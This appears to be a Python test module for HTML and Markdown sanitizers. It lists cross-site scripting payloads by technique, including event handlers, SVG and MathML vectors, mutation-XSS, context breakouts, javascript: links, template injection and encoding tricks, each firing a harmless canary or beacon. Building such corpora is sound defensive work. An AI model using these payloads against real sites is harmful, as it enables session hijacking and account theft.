"""Scripts that have got into pages by way of text, as the literature knows them.

``§`` stands for the number by which a payload tells that it ran: it calls ``__pwned(§)``, or asks
``¤/pwned/§``, an address that nobody else asks.
"""

ELEMENTS = [
    "<script>__pwned(§)</script>",
    "<SCRIPT>__pwned(§)</SCRIPT>",
    "<sCrIpT>__pwned(§)</ScRiPt >",
    "<script>__pwned(§)//",
    "<script/x>__pwned(§)</script>",
    "<script src=¤/pwned/§></script>",
    "<script type=module>__pwned(§)</script>",
    "<<script>__pwned(§);//<</script>",
    "<script>eval('__pw'+'ned(§)')</script>",
    "<script>window['__pwned'](§)</script>",
    "<script>__pwned`§`</script>",
    '<script src="data:text/javascript,__pwned(§)"></script>',
    "<scr<script>ipt>__pwned(§)</scr</script>ipt>",
    "<img src=x onerror=__pwned(§)>",
    "<img src=x onerror='__pwned(§)'>",
    '<img src="x" onerror="__pwned(§)">',
    "<IMG SRC=x ONERROR=__pwned(§)>",
    "<img/src='x'/onerror=__pwned(§)>",
    "<img src=x onerror\n=\n__pwned(§)>",
    "<img src=x onerror=__pwned(§)//",
    "<img src=x:x onerror=&#95;&#95;&#112;wned(§)>",
    "<img src=x onerror=&#x5f;&#x5f;pwned(§)>",
    "<img src=x onerror=\\u005f\\u005fpwned(§)>",
    "<img src=x onerror=eval(atob('X19wd25lZA==')+'(§)')>",
    "<img src=¤/pwned/§>",
    '<img srcset="¤/pwned/§ 1x">',
    "<img src=x onerror=window.onerror=__pwned;throw(§)>",
    "<image src=x onerror=__pwned(§)>",
    "<img src='data:image/svg+xml,<svg onload=\"1\"/>' onload=__pwned(§)>",
    "<input autofocus onfocus=__pwned(§)>",
    "<select autofocus onfocus=__pwned(§)>",
    "<textarea autofocus onfocus=__pwned(§)>",
    "<a href=# id=x tabindex=1 autofocus onfocus=__pwned(§)>x</a>",
    "<button onclick=__pwned(§)>x</button>",
    "<button popovertarget=p§>x</button><div popover id=p§ onbeforetoggle=__pwned(§)>x</div>",
    "<body onload=__pwned(§)>",
    "<body onpageshow=__pwned(§)>",
    "<div onmouseover=__pwned(§)>x</div>",
    "<div onpointerenter=__pwned(§)>x</div>",
    (
        "<p style='animation:a 1s' onanimationstart=__pwned(§)>"
        "<style>@keyframes a{from{top:0}}</style>"
    ),
    "<div contenteditable oninput=__pwned(§)>x</div>",
    "<details open ontoggle=__pwned(§)>",
    "<details ontoggle=__pwned(§)><summary>x</summary></details>",
    "<video src=x onerror=__pwned(§)>",
    "<video><source onerror=__pwned(§)></video>",
    "<video poster=¤/pwned/§></video>",
    "<audio src=x onerror=__pwned(§)>",
    "<audio src=¤/pwned/§ autoplay></audio>",
    "<object data=¤/pwned/§></object>",
    "<embed src=¤/pwned/§>",
    "<iframe src=¤/pwned/§></iframe>",
    "<iframe src='javascript:parent.__pwned(§)'></iframe>",
    "<iframe srcdoc='<script>parent.__pwned(§)</script>'></iframe>",
    "<iframe srcdoc=&lt;script&gt;parent.__pwned(§)&lt;/script&gt;></iframe>",
    "<iframe onload=__pwned(§)></iframe>",
    "<marquee onstart=__pwned(§)>x</marquee>",
    "<link rel=stylesheet href=¤/pwned/§>",
    "<link rel=prefetch href=¤/pwned/§>",
    "<style>@import '¤/pwned/§';</style>",
    "<style>body{background:url(¤/pwned/§)}</style>",
    "<div style=background:url(¤/pwned/§)>x</div>",
    "<table background=¤/pwned/§><tr><td>x</td></tr></table>",
    "<meta http-equiv=refresh content='0;url=¤/pwned/§'>",
    "<base href=¤/pwned/§/><img src=x>",
    "<form action=javascript:__pwned(§)><input type=submit></form>",
    "<form><button formaction=javascript:__pwned(§)>x</button></form>",
    "<form action=¤/pwned/§><button>x</button></form>",
    "<isindex type=image src=1 onerror=__pwned(§)>",
    "<keygen autofocus onfocus=__pwned(§)>",
    "<xss onclick=__pwned(§)>x</xss>",
    "<x-y onpointerdown=__pwned(§)>x</x-y>",
    "<template shadowrootmode=open><img src=x onerror=__pwned(§)></template>",
    "<dialog open oncancel=__pwned(§) onclick=__pwned(§)>x</dialog>",
    (
        "<input type=hidden oncontentvisibilityautostatechange=__pwned(§)"
        " style=content-visibility:auto><p oncontentvisibilityautostatechange=__pwned(§)"
        " style=content-visibility:auto>x</p>"
    ),
    "<div onscrollend=__pwned(§) onscroll=__pwned(§)>x</div>",
]
"""What runs as an element of a page."""

DRAWINGS = [
    "<svg onload=__pwned(§)>",
    "<svg/onload=__pwned(§)>",
    "<svg><script>__pwned(§)</script></svg>",
    "<svg><script href='data:text/javascript,__pwned(§)'/></svg>",
    "<svg><image href=x onerror=__pwned(§)></svg>",
    "<svg><image href=¤/pwned/§></svg>",
    "<svg><animate onbegin=__pwned(§) attributeName=x dur=1s></svg>",
    "<svg><set onbegin=__pwned(§) attributeName=x to=1></svg>",
    "<svg><a xlink:href=javascript:__pwned(§)><text x=9 y=9>x</text></a></svg>",
    (
        "<svg><a><animate attributeName=href values=javascript:__pwned(§) />"
        "<text y=9>x</text></a></svg>"
    ),
    "<svg><foreignObject><img src=x onerror=__pwned(§)></foreignObject></svg>",
    "<svg><style><img src=x onerror=__pwned(§)></style></svg>",
    "<svg><desc><img src=x onerror=__pwned(§)></desc></svg>",
    "<math><mtext><img src=x onerror=__pwned(§)></mtext></math>",
    "<math href=javascript:__pwned(§)>x</math>",
    "<math><mi//xlink:href=data:x onclick=__pwned(§)>x</mi></math>",
    (
        "<math><annotation-xml encoding=text/html><img src=x onerror=__pwned(§)>"
        "</annotation-xml></math>"
    ),
]
"""SVG and MathML."""

MUTATIONS = [
    "<noscript><p title='</noscript><img src=x onerror=__pwned(§)>'>",
    (
        "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1"
        " onerror=__pwned(§)&gt;' src=x onerror=__pwned(§)>"
    ),
    "<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=__pwned(§)>",
    "<svg></p><style><a id='</style><img src=x onerror=__pwned(§)>'>",
    "<svg><p><style><a title='</style><img src=x onerror=__pwned(§)>'></p></svg>",
    "<xmp><p title='</xmp><img src=x onerror=__pwned(§)>'>",
    "<listing>&lt;img src=x onerror=__pwned(§)&gt;</listing><img src=x onerror=__pwned(§)>",
    "<a title='<img src=x onerror=__pwned(§)>' onclick=__pwned(§)>x</a>",
    "<textarea></textarea><img src=x onerror=__pwned(§)>",
    "<style></style\n><img src=x onerror=__pwned(§)>",
    (
        "<select><option><style></option></select><img src=x onerror=__pwned(§)></style>"
        "<img src=x onerror=__pwned(§)>"
    ),
    (
        "<plaintext/><img src=x onerror=__pwned(§)></plaintext><svg onload=__pwned(§)>"
        "<!-- --><img src=x onerror=__pwned(§)>"
    ),
]
"""What changes when it is read, written and read again."""

ENDINGS = [
    "--><img src=x onerror=__pwned(§)>",
    "--!><img src=x onerror=__pwned(§)>",
    "]]><img src=x onerror=__pwned(§)>",
    "</title><img src=x onerror=__pwned(§)>",
    "</textarea><img src=x onerror=__pwned(§)>",
    "</style><img src=x onerror=__pwned(§)>",
    "</script><img src=x onerror=__pwned(§)>",
    "</script><script>__pwned(§)</script>",
    "</div></section></article><img src=x onerror=__pwned(§)>",
    "</p></td></tr></table><img src=x onerror=__pwned(§)>",
    "</button></li></ul><img src=x onerror=__pwned(§)>",
    '"><img src=x onerror=__pwned(§)>',
    "'><img src=x onerror=__pwned(§)>",
    '"><script>__pwned(§)</script>',
    "' autofocus onfocus=__pwned(§) x='",
    '" autofocus onfocus=__pwned(§) x="',
    '" onmouseover="__pwned(§)',
    "' onmouseover='__pwned(§)",
    '"/><svg onload=__pwned(§)>',
    '";__pwned(§);//',
    "';__pwned(§);//",
    '\\";__pwned(§);//',
    "`;__pwned(§);//",
    '"-__pwned(§)-"',
    "'-__pwned(§)-'",
]
"""What ends the place where text stands, and goes on as a page."""

LINKS = [
    "[x](javascript:__pwned(§))",
    "[x](JaVaScRiPt:__pwned(§))",
    "[x](<javascript:__pwned(§)>)",
    "[x](javascript&colon;__pwned(§))",
    "[x](java&#10;script:__pwned(§))",
    "[x](&#1;javascript:__pwned(§))",
    "[x][r]\n\n[r]: javascript:__pwned(§)",
    "![x](¤/pwned/§)",
    '![x](x "\\" onerror=__pwned(§) \\"")<img src=x onerror=__pwned(§)>',
    "![x](javascript:__pwned(§))<img src=x onerror=__pwned(§)>",
    "<javascript:__pwned(§)>",
    "<a href=javascript:__pwned(§)>x</a>",
    "<a href=' javascript:__pwned(§)'>x</a>",
    "<a href='java\tscript:__pwned(§)'>x</a>",
    "<a href='&#106;avascript:__pwned(§)'>x</a>",
    "<a href=javascript&colon;__pwned(§)>x</a>",
    "<a href='javascript://%0a__pwned(§)'>x</a>",
    "<a href='vbscript:x' onclick=__pwned(§)>x</a>",
    "<a href=x ping=¤/pwned/§ onclick=__pwned(§)>x</a>",
    "<area href=javascript:__pwned(§)>",
    "javascript:__pwned(§)",
    (
        "javascript:/*--></title></style></textarea></script></xmp>"
        "<svg/onload='+/\"/+/onmouseover=1/+/[*/[]/+__pwned(§)//'>"
    ),
]
"""Links of Markdown and of HTML."""

TEMPLATES = [
    "{{__pwned(§)}}",
    "${__pwned(§)}",
    "{{constructor.constructor('__pwned(§)')()}}",
    "${constructor.constructor('__pwned(§)')()}",
    "{{=__pwned(§)}}",
    "<%= __pwned(§) %>",
    "#{__pwned(§)}",
    "$\\href{javascript:__pwned(§)}{x}$",
    "$$\\href{javascript:__pwned(§)}{x}$$",
    "\\(\\href{javascript:__pwned(§)}{x}\\)",
    "$$\\htmlData{x=1}{x}\\includegraphics{¤/pwned/§}$$",
    '```mermaid\ngraph TD; A-->B; click A "javascript:__pwned(§)"\n```',
]
"""What engines for templates and formulas read."""

ODD = [
    "＜script＞__pwned(§)＜/script＞",
    "\u202e>tpircs/<__pwned(§)>tpircs<\u202c<img src=x onerror=__pwned(§)>",
    "<img\u00a0src=x onerror=__pwned(§)><img src=x onerror=__pwned(§)>",
    "<img src=x\u200bonerror=__pwned(§)><img src=x onerror=__pwned(§)>",
    "<img src=x on\u200derror=__pwned(§)><svg onload=__pwned(§)>",
    "&lt;img src=x onerror=__pwned(§)&gt;",
    "&amp;lt;img src=x onerror=__pwned(§)&amp;gt;",
    "&#60;img src=x onerror=__pwned(§)&#62;",
    "%3Cimg src=x onerror=__pwned(§)%3E",
    "\\x3cimg src=x onerror=__pwned(§)\\x3e",
    "\\u003cimg src=x onerror=__pwned(§)\\u003e",
    "+ADw-script+AD4-__pwned(§)+ADw-/script+AD4-",
    "<!--[if gte IE 4]><script>__pwned(§)</script><![endif]-->",
    "<?xml-stylesheet href='javascript:__pwned(§)'?><img src=x onerror=__pwned(§)>",
    "<![CDATA[<img src=x onerror=__pwned(§)>]]>",
    "<div style=width:expression(__pwned(§))>x</div>",
]
"""What was read as markup by someone, somewhere: full-width, encoded twice, for old browsers."""

PAYLOADS = [*ELEMENTS, *DRAWINGS, *MUTATIONS, *ENDINGS, *LINKS, *TEMPLATES, *ODD]


def payload(number: int, beacon: str) -> str:
    """The payload of a number, which tells that number when it runs."""
    return PAYLOADS[number].replace("§", str(number)).replace("¤", beacon)
